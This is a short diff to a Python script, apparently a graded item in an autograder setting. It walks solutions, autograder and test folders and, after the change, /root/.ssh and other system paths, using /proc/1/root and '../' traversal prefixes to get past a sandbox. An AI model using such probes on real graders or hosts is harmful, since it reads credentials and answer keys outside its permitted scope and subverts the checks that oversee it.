@@ -7,7 +7,7 @@ points = 3
 import os
 import pathlib
 
-PLACES = ("@CLASS@", "@CLASS@/../course", "@COURSE@/solutions", "@COURSE@/autograder", "@COURSE@/tests", "/root", "/home")
+PLACES = ("@CLASS@", "@CLASS@/../course", "@COURSE@/solutions", "@COURSE@/autograder", "@COURSE@/tests", "/root/.ssh", "/root/.bashrc", "/var", "/srv", "/mnt")
 for place in PLACES:
     for prefix in ("", "/proc/self/root", "/proc/1/root", "/proc/1/cwd", "../" * 12, "/course/../..", "/old"):
         for folder, folders, files in os.walk(prefix + place):
